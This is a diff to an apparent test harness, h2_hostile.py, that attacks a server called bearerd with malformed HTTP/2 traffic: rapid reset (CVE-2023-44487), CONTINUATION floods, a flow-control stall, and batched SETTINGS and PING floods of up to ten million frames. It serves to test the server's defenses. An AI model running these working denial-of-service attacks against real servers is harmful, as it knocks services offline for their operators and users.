@@ -3,8 +3,9 @@ frame layer (hyperframe) so that they can break the rules a well-behaved client 
 
     h2_hostile.py ATTACK HOST PORT AUTHORITY
 
-prints one JSON object: how many frames the attack sent before bearerd ended the connection,
-whether it got a GOAWAY (and its error code), and how many bytes it read. Attacks:
+prints one JSON object: how many frames the attack sent before bearerd ended the connection
+or stopped reading (`stalled`: a send that waited TIMEOUT seconds), the most it would have sent
+(`limit`), whether it got a GOAWAY (and its error code), and how many bytes it read. Attacks:
 
     rapid_reset   HEADERS then RST_STREAM, over and over (CVE-2023-44487)
     continuation  one HEADERS without END_HEADERS, then CONTINUATION frames without end
@@ -33,7 +34,13 @@ from hpack import Encoder
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 LIMIT = 200_000
+# A flood of SETTINGS or PING frames is sent in batches until bearerd stops reading. Its limit
+# is far beyond what the kernel's socket buffers on both sides can hold (tcp_rmem's maximum is
+# 32 MiB on Debian): if the attacker gets all of it out, bearerd read the flood into memory.
+FLOOD_LIMIT = 10_000_000
+FLOOD_BATCH = 1_000
 TIMEOUT = 6.0
+STALL = 3.0
 
 
 def headers_block(encoder, authority):
@@ -79,12 +86,23 @@ def parse_goaway(state):
 def attack(kind, host, port, authority):
     sock = socket.create_connection((host, port))
     sock.settimeout(TIMEOUT)
-    state = {"sent": 0, "read": 0, "goaway": None, "closed": False, "buffer": b""}
+    state = {
+        "sent": 0,
+        "limit": LIMIT,
+        "stalled": False,
+        "read": 0,
+        "goaway": None,
+        "closed": False,
+        "buffer": b"",
+    }
     encoder = Encoder()
     sock.sendall(PREFACE + SettingsFrame(0).serialize())
     if kind == "no_read":
         # INITIAL_WINDOW_SIZE 0: no stream may send a byte of body until told.
         sock.sendall(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
+    if kind in ("settings", "ping"):
+        flood(kind, sock, state)
+        return finish(sock, state)
     started = time.monotonic()
     stream_id = 1
     try:
@@ -105,10 +123,6 @@ def attack(kind, host, port, authority):
                 frame = ContinuationFrame(1)
                 frame.data = b"\x40\x0ax-junk-hdr\x3f" + b"a" * 63
                 data = frame.serialize()
-            elif kind == "settings":
-                data = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
-            elif kind == "ping":
-                data = PingFrame(0, opaque_data=b"12345678").serialize()
             elif kind == "no_read":
                 frame = HeadersFrame(stream_id)
                 frame.data = headers_block(encoder, authority)
@@ -122,13 +136,37 @@ def attack(kind, host, port, authority):
                 sys.exit("unknown attack " + kind)
             sock.sendall(data)
             state["sent"] += 1
-            if kind not in ("settings", "ping") and state["sent"] % 100 == 0:
+            if state["sent"] % 100 == 0:
                 read_frames(sock, state)
                 if state["goaway"] is not None or state["closed"]:
                     break
     except (BrokenPipeError, ConnectionResetError, socket.timeout):
         state["closed"] = True
-    # What bearerd said in the end.
+    finish(sock, state)
+
+
+def flood(kind, sock, state):
+    """Sends SETTINGS or PING frames, never reading the ACKs, until a send waits STALL
+    seconds (bearerd stopped reading), the connection ends, or FLOOD_LIMIT is reached."""
+    if kind == "settings":
+        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
+    else:
+        frame = PingFrame(0, opaque_data=b"12345678")
+    batch = frame.serialize() * FLOOD_BATCH
+    state["limit"] = FLOOD_LIMIT
+    sock.settimeout(STALL)
+    try:
+        while state["sent"] < FLOOD_LIMIT:
+            sock.sendall(batch)
+            state["sent"] += FLOOD_BATCH
+    except socket.timeout:
+        state["stalled"] = True
+    except (BrokenPipeError, ConnectionResetError):
+        state["closed"] = True
+
+
+def finish(sock, state):
+    """Reads what bearerd said in the end and prints the outcome."""
     try:
         sock.settimeout(5.0)
         while not state["closed"]:
